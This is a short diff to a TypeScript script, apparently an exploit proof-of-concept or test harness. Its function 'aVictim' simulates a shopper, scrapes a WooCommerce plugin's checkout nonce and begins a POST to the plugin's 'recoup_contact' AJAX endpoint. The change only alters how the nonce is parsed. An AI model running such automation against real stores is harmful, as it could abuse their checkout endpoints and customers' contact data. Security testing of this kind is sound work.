@@ -140,7 +140,8 @@ async function aVictim(): Promise<void> {
   }
   await go(`/?add-to-cart=${values.product}`)
   const page = await go(values.checkout)
-  const nonce = /recoupCheckout\s*=\s*\{[^}]*"nonce":"(\w+)"/.exec(page)?.[1]
+  const given = page.slice(page.indexOf('recoupCheckout'))
+  const nonce = page.includes('recoupCheckout') ? /"nonce":"(\w+)"/.exec(given)?.[1] : undefined
   if (!nonce) throw new Error(`${values.checkout} has not the plugin's script: it is no classic checkout.`)
   const said = await go('/?wc-ajax=recoup_contact', {
     method: 'POST',
